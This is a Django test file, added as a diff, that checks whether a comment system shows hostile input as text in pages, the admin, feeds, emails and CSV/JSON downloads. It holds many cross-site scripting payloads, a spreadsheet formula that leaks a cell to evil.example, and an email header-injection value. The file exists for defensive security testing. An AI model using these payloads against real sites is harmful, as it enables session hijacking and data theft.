@@ -1,0 +1,401 @@
+"""What attackers type into the reply form, and what they send around it.
+
+Each piece of hostile input is refused with a message a reader understands and nothing stored,
+or stored exactly as typed and shown as text wherever it appears: on the article, in threads,
+in the moderators' admin, in emails, feeds and downloads.
+"""
+
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+
+import pytest
+from django.contrib.auth.models import User
+from django.urls import reverse
+
+from articles.rendering import render_article_markdown
+from comments.models import Comment, Report, Strategy
+
+pytestmark = pytest.mark.django_db
+
+
+def post_reply(client, article, data, **extra):
+    return client.post(reverse("comments:create", kwargs={"slug": article.slug}), data, **extra)
+
+
+def refusal(response, field: str) -> str:
+    """The form's errors for `field` (NON_FIELD_ERRORS for those shown above the form)."""
+    return " ".join(response.context["form"].errors.get(field, []))
+
+
+# ---------------------------------------------------------------------------------------------
+# Markup that would run, found the way a browser reads a page.
+
+SCHEMES_THAT_RUN = ("javascript:", "data:", "vbscript:")
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "poster"}
+
+
+class _Markup(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.running: list[str] = []
+        self.text: list[str] = []
+        self.links: list[dict[str, str | None]] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        if tag == "a":
+            self.links.append(attributes)
+        if tag == "script":
+            self._in_script = True
+        for name, value in attrs:
+            value = value or ""
+            if name.startswith("on"):
+                self.running.append(f"<{tag} {name}={value!r}>")
+            # Browsers ignore spaces and control characters in a scheme, and its case.
+            scheme = "".join(c for c in value if c.isprintable() and not c.isspace()).lower()
+            if name in URL_ATTRIBUTES and scheme.startswith(SCHEMES_THAT_RUN):
+                self.running.append(f"<{tag} {name}={value!r}>")
+        if tag in {"iframe", "object", "embed", "svg", "math", "base", "meta"} and any(
+            "alert" in (value or "") for _name, value in attrs
+        ):
+            self.running.append(f"<{tag}>")
+
+    def handle_endtag(self, tag):
+        if tag == "script":
+            self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script and "alert" in data:
+            self.running.append(f"<script>{data}</script>")
+        elif not self._in_script:
+            self.text.append(data)
+
+
+def read_markup(html: str) -> _Markup:
+    markup = _Markup()
+    markup.feed(html)
+    markup.close()
+    return markup
+
+
+def what_would_run(html: str) -> list[str]:
+    return read_markup(html).running
+
+
+def visible_text(html: str) -> str:
+    return "".join(read_markup(html).text)
+
+
+# ---------------------------------------------------------------------------------------------
+# Cross-site scripting: everything a reader types is shown as text, wherever it appears.
+
+NAME = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
+EMAIL = "x'/onmouseover='alert`1`'@example.com"
+BODY_LINES = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")',
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg/onload=alert(1)>',
+    "'><body onload=alert(1)>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    '<a href=" jav&#x09;ascript:alert(1)">tabbed</a>',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    '[a link](javascript:alert(1)) and ![an image](x" onerror="alert(1))',
+    "[ref][1]\n\n[1]: javascript:alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    "{{ request.META }} {% debug %} ${7*7}",
+]
+BODY = "\n\n".join(BODY_LINES)
+REPORT_TEXT = "<script>alert('report')</script><img src=x onerror=alert(1)>"
+
+
+@pytest.fixture
+def hostile(client, article, moderator, django_capture_on_commit_callbacks):
+    """A proposal full of hostile text, posted through the form, published, and reported."""
+    strategy = Strategy.objects.first()
+    with django_capture_on_commit_callbacks(execute=True):
+        response = post_reply(
+            client,
+            article,
+            {
+                "author_name": NAME,
+                "author_email": EMAIL,
+                "body": BODY,
+                "strategies": [strategy.pk],
+                "notify_replies": "on",
+            },
+        )
+    assert response.status_code == 302, response.context["form"].errors
+    comment = Comment.objects.get()
+    comment.approve(by=moderator)
+    Report.objects.create(
+        comment=comment, reason=Report.Reason.OTHER, text=REPORT_TEXT, reader_key="r" * 64
+    )
+    return comment
+
+
+def test_hostile_text_is_stored_exactly_as_typed(hostile):
+    stored = Comment.objects.get()
+
+    assert (stored.author_name, stored.author_email, stored.body) == (NAME, EMAIL, BODY)
+
+
+def assert_shown_as_text(html: str, *texts: str) -> None:
+    assert what_would_run(html) == []
+    shown = visible_text(html)
+    for text in texts:
+        for line in text.split("\n\n"):
+            assert line in shown, line
+
+
+def test_the_article_page_shows_hostile_text_as_text(client, article, hostile):
+    client.cookies.clear()
+
+    page = client.get(article.get_absolute_url())
+
+    assert_shown_as_text(page.content.decode(), NAME, BODY)
+
+
+def test_the_thread_page_shows_hostile_text_as_text(client, hostile):
+    client.cookies.clear()
+
+    page = client.get(reverse("comments:thread", kwargs={"pk": hostile.pk}))
+
+    assert_shown_as_text(page.content.decode(), NAME, BODY)
+
+
+def test_the_reply_page_shows_hostile_text_as_text(client, hostile):
+    page = client.get(reverse("comments:reply", kwargs={"pk": hostile.pk}))
+
+    assert_shown_as_text(page.content.decode(), NAME, BODY)
+
+
+def test_a_reply_sent_in_place_shows_hostile_text_as_text(client, article, hostile):
+    response = post_reply(
+        client,
+        article,
+        {
+            "author_name": NAME,
+            "author_email": "luis@example.com",
+            "body": BODY,
+            "parent": hostile.pk,
+        },
+        headers={"HX-Request": "true"},
+    )
+
+    assert_shown_as_text(response.content.decode(), NAME, BODY)
+
+
+def test_the_strategies_board_shows_hostile_text_as_text(client, article, hostile):
+    page = client.get(reverse("comments:board", kwargs={"slug": article.slug}))
+
+    assert_shown_as_text(page.content.decode(), NAME)
+
+
+def test_a_form_sent_back_with_errors_shows_hostile_text_as_text(client, article):
+    response = post_reply(
+        client,
+        article,
+        {
+            "author_name": NAME,
+            "author_email": "not an address <script>alert(1)</script>",
+            "body": BODY,
+            "language": "<script>alert(1)</script>",
+        },
+    )
+
+    html = response.content.decode()
+    assert what_would_run(html) == []
+    assert "</textarea><script>" not in html
+
+
+def test_a_closed_discussion_gives_back_hostile_text_as_text(client, article):
+    article.discussion_open = False
+    article.save()
+
+    response = post_reply(
+        client, article, {"author_name": "Ana", "author_email": "ana@example.com", "body": BODY}
+    )
+
+    assert_shown_as_text(response.content.decode(), BODY)
+
+
+def test_the_rate_limit_page_gives_back_hostile_text_as_text(client, article, settings):
+    settings.RATE_LIMITS = {"post": {"ip": (1, 600)}}
+    data = {"author_name": "Ana", "author_email": "ana@example.com", "body": BODY}
+    post_reply(client, article, data)
+
+    response = post_reply(client, article, {**data, "body": BODY + "\n\nAgain."})
+
+    assert response.status_code == 429
+    assert what_would_run(response.content.decode()) == []
+
+
+def test_the_edit_page_shows_hostile_text_as_text(client, article, hostile):
+    page = client.get(reverse("comments:edit", kwargs={"pk": hostile.pk}))
+
+    assert page.status_code == 200
+    assert_shown_as_text(page.content.decode(), BODY)
+
+
+def test_the_moderation_queue_shows_hostile_text_as_text(moderator_client, hostile):
+    page = moderator_client.get(reverse("admin:comments_comment_changelist"))
+
+    assert_shown_as_text(page.content.decode(), NAME, EMAIL)
+
+
+def test_the_admin_page_of_a_comment_shows_hostile_text_as_text(moderator_client, hostile):
+    page = moderator_client.get(reverse("admin:comments_comment_change", args=[hostile.pk]))
+
+    assert_shown_as_text(page.content.decode(), NAME, EMAIL, BODY, REPORT_TEXT)
+
+
+def test_the_admin_list_of_reports_shows_hostile_text_as_text(superuser_client, hostile):
+    page = superuser_client.get(reverse("admin:comments_report_changelist"))
+
+    assert page.status_code == 200
+    assert_shown_as_text(page.content.decode(), REPORT_TEXT)
+
+
+def test_the_atom_feed_gives_hostile_text_as_text(client, article, hostile):
+    feed = client.get(reverse("comments:feed", kwargs={"slug": article.slug}))
+
+    atom = "{http://www.w3.org/2005/Atom}"
+    entry = ET.fromstring(feed.content).find(f"{atom}entry")  # noqa: S314 - our own feed
+    title, summary = entry.find(f"{atom}title"), entry.find(f"{atom}summary")
+    assert title.get("type", "text") == "text"
+    assert entry.find(f"{atom}author/{atom}name").text == NAME
+    # Feed readers draw the summary as HTML: it must be the escaped text.
+    assert summary.get("type") == "html"
+    assert_shown_as_text(summary.text, BODY)
+
+
+def test_emails_about_hostile_text_are_plain_text_without_added_headers(
+    client, article, hostile, mailoutbox, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks(execute=True):
+        post_reply(
+            client,
+            article,
+            {
+                "author_name": "Luis\r\nBcc: everyone@example.org",
+                "author_email": "luis@example.com",
+                "body": BODY,
+                "parent": hostile.pk,
+            },
+        )
+        Comment.objects.get(author_email="luis@example.com").approve(
+            by=User.objects.get(username="moderator")
+        )
+
+    assert len(mailoutbox) >= 3  # moderators told twice, the hostile author told of a reply
+    for message in mailoutbox:
+        assert message.content_subtype == "plain"
+        assert not getattr(message, "alternatives", [])
+        assert "\n" not in message.subject and "\r" not in message.subject
+        assert not message.bcc and not message.cc
+        assert "Bcc" not in message.message()
+
+
+def test_the_proposals_spreadsheet_keeps_hostile_text_from_running_as_a_formula(
+    client, article, hostile
+):
+    download = client.get(
+        reverse("comments:proposals-download", kwargs={"slug": article.slug, "extension": "csv"})
+    )
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
+    assert rows[0]["text"] == "'" + BODY
+    assert download["Content-Disposition"].startswith("attachment;")
+
+
+def test_the_proposals_json_gives_hostile_text_as_data_never_as_a_page(client, article, hostile):
+    download = client.get(
+        reverse("comments:proposals-download", kwargs={"slug": article.slug, "extension": "json"})
+    )
+
+    assert download["Content-Type"] == "application/json"
+    assert download["X-Content-Type-Options"] == "nosniff"
+    assert json.loads(download.content)[0]["text"] == BODY
+
+
+# ---------------------------------------------------------------------------------------------
+# The article's Markdown: an allowlist sanitizer, and every link marked as untrusted.
+
+MARKDOWN_ATTACKS = [
+    ("raw script", "<script>alert(1)</script>"),
+    ("script hidden in a paragraph", "Hello <script>alert(1)</script> world"),
+    ("event handler on an image", "<img src=x onerror=alert(1)>"),
+    ("event handler on an allowed tag", '<a href="https://example.org" onclick="alert(1)">x</a>'),
+    ("event handler on svg", "<svg onload=alert(1)></svg>"),
+    ("javascript link in HTML", '<a href="javascript:alert(1)">x</a>'),
+    ("javascript link in Markdown", "[x](javascript:alert(1))"),
+    ("javascript link in mixed case", "[x](JaVaScRiPt:alert(1))"),
+    ("javascript link encoded as entities", "[x](&#106;avascript:alert(1))"),
+    ("javascript link hex-encoded", '<a href="&#x6A;avascript:alert(1)">x</a>'),
+    ("javascript link split by a tab", '<a href="java&#09;script:alert(1)">x</a>'),
+    ("javascript link by reference", "[x][r]\n\n[r]: javascript:alert(1)"),
+    ("javascript autolink", "<javascript:alert(1)>"),
+    ("data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
+    ("data link in HTML", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
+    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>'),
+    ("Markdown image with a script source", "![x](javascript:alert(1))"),
+    ("Markdown image breaking out of its attribute", '![x](x" onerror="alert(1))'),
+    ("image by reference", "![x][i]\n\n[i]: javascript:alert(1)"),
+    ("image wrapped in a link", "[![x](https://example.org/a.png)](javascript:alert(1))"),
+    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
+    ("object", '<object data="javascript:alert(1)"></object>'),
+    ("style attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
+    ("style element", "<style>body{background:url(javascript:alert(1))}</style>"),
+    ("form", '<form action="javascript:alert(1)"><button>go</button></form>'),
+    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+    ("base", '<base href="javascript:alert(1)//">'),
+    ("comment-hidden script", "<!--><script>alert(1)</script>-->"),
+    ("unclosed tag", '<img src="x" onerror="alert(1)"'),
+]
+
+
+@pytest.mark.parametrize(
+    "markdown", [case[1] for case in MARKDOWN_ATTACKS], ids=[case[0] for case in MARKDOWN_ATTACKS]
+)
+def test_the_article_markdown_keeps_nothing_that_would_run(markdown):
+    html = render_article_markdown(markdown)
+
+    assert what_would_run(html) == []
+    assert not any(tag in html for tag in ("<img", "<iframe", "<object", "<style", "<form"))
+    assert " style=" not in html
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "[the report](https://example.org/report)",
+        "<https://example.org/report>",
+        '<a href="https://example.org/report" rel="author" target="_blank">the report</a>',
+        "[write to us](mailto:desk@example.org)",
+    ],
+    ids=["Markdown link", "autolink", "HTML link with its own rel", "mailto link"],
+)
+def test_every_link_in_the_article_is_marked_as_untrusted(markdown):
+    (link,) = read_markup(render_article_markdown(markdown)).links
+
+    assert link["rel"] == "nofollow ugc noopener"
+
+
+def test_the_article_page_shows_its_markdown_sanitized(client, article):
+    article.body = "\n\n".join(case[1] for case in MARKDOWN_ATTACKS)
+    article.save()
+
+    page = client.get(article.get_absolute_url())
+
+    assert what_would_run(page.content.decode()) == []
